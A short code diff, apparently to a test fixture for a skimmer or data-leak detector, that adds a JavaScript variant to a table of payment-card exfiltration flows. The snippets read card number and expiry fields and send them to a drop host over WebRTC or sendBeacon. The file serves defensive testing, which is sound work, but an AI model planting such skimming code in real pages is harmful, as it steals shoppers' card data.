@@ -85,6 +85,10 @@ FLOWS = {
                            " {urls: 'turn:metrics-drop.top:443?transport=tcp'}]});\n"
                            "var ch; ch = pc.createDataChannel('ctl');\n"
                            "ch.send(document.querySelector('#cc_number').value);",
+    "storage held in a variable": "var store; try { store = window.localStorage; } "
+                                  "catch (e) { store = null; }\n"
+                                  "store.setItem('k', document.querySelector('#cc-exp').value);\n"
+                                  f"navigator.sendBeacon('{DROP}', store.getItem('k'));",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
